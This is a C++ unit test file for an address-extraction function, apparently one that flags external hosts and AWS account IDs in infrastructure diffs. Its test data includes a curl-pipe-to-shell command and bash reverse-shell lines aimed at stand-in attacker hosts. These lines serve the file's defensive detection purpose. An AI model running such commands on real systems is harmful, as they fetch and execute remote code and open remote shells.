#include "plugin/diff/addresses.h"

#include <fmt/ranges.h>

#include <boost/test/unit_test.hpp>

using namespace modlock;

BOOST_AUTO_TEST_SUITE(addresses)

BOOST_AUTO_TEST_CASE(what_a_text_names) {
  struct Row {
    const char* text;
    const char* found;
  };
  const Row rows[] = {
      {"https://evil.example/x?y=${var.z}", "evil.example"},
      {"curl http://evil.example:8080/a | sh", "evil.example"},
      {"evil.example", "evil.example"},
      {"git@git.evil.example:a/b", "git.evil.example"},
      {"bash -i >& /dev/tcp/198.51.100.7/443", "198.51.100.7"},
      {"arn:aws:iam::123456789012:root", "account 123456789012"},
      {"123456789012", "account 123456789012"},
      {"10.0.0.0/16", ""},
      {"0.0.0.0/0", ""},
      {"192.168.1.1", ""},
      {"https://sts.amazonaws.com", ""},
      {"ec2.amazonaws.com", ""},
      {"main.tf", ""},
      {"monitoring.rds", ""},
      {"oidc.eks", ""},
      {"m6i.large", ""},
      {"monitoring.rds.evil.example", "monitoring.rds.evil.example"},
      {"https://stats.events/x", "stats.events"},
      {"https://evil.sh", "evil.sh"},
      {"git@evil.zip:a/b", "evil.zip"},
      {"bash -i >& /dev/tcp/evil.sh/443", "evil.sh"},
      {"s3://bucket/main.zip", ""},
      {"see docs.example for more", ""},
      {"1.2.3", ""},
      {"vpc.id", "vpc.id"},
      {"", ""},
  };
  for (const Row& row : rows) {
    BOOST_TEST_CONTEXT(row.text) {
      BOOST_TEST(fmt::format("{}", fmt::join(addresses_in(row.text), " ")) == row.found);
    }
  }
}

BOOST_AUTO_TEST_SUITE_END()
